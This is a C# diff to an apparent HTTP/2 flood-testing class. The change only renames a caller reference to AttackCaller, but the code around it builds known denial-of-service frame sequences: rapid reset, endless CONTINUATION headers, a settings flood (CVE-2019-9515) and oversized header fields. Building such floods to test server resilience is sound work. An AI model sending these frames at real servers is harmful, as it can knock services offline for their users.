@@ -30,7 +30,7 @@ internal sealed class Http2Flood(string name, string sent, Func<int, byte[]> fra
         round => Round(round, 100, stream =>
         [
             .. Http2Connection.Frame(
-                Http2Frame.Headers, Http2Connection.EndHeaders, stream, Http2Connection.Post(Caller.Segment)),
+                Http2Frame.Headers, Http2Connection.EndHeaders, stream, Http2Connection.Post(AttackCaller.Segment)),
             .. Http2Connection.Frame(Http2Frame.Reset, 0, stream, Error(8)),
         ]));
 
@@ -39,7 +39,7 @@ internal sealed class Http2Flood(string name, string sent, Func<int, byte[]> fra
         "http2-continuation",
         "headers that go on in CONTINUATION frames without end",
         round => round == 0
-            ? Http2Connection.Frame(Http2Frame.Headers, 0, 1, Http2Connection.Post(Caller.Segment))
+            ? Http2Connection.Frame(Http2Frame.Headers, 0, 1, Http2Connection.Post(AttackCaller.Segment))
             : Http2Connection.Frame(Http2Frame.Continuation, 0, 1, Field($"x-{round}", 8_000)));
 
     /// <summary>Settings, each of which wants an answer (CVE-2019-9515).</summary>
@@ -60,7 +60,7 @@ internal sealed class Http2Flood(string name, string sent, Func<int, byte[]> fra
         "calls whose headers are a hundred fields of 16 KB",
         round =>
         [
-            .. Http2Connection.Frame(Http2Frame.Headers, 0, Stream(round), Http2Connection.Post(Caller.Segment)),
+            .. Http2Connection.Frame(Http2Frame.Headers, 0, Stream(round), Http2Connection.Post(AttackCaller.Segment)),
             .. Enumerable.Range(0, 100).SelectMany(field => Http2Connection.Frame(
                 Http2Frame.Continuation,
                 field == 99 ? Http2Connection.EndHeaders : (byte)0,
@@ -147,7 +147,7 @@ internal sealed class Http2Flood(string name, string sent, Func<int, byte[]> fra
     // Behind the fields of a POST: a literal field whose value is long.
     private static byte[] Field(string name, int length)
     {
-        var post = Http2Connection.Post(Caller.Segment);
-        return Http2Connection.Post(Caller.Segment, (name, new string('a', length)))[post.Length..];
+        var post = Http2Connection.Post(AttackCaller.Segment);
+        return Http2Connection.Post(AttackCaller.Segment, (name, new string('a', length)))[post.Length..];
     }
 }
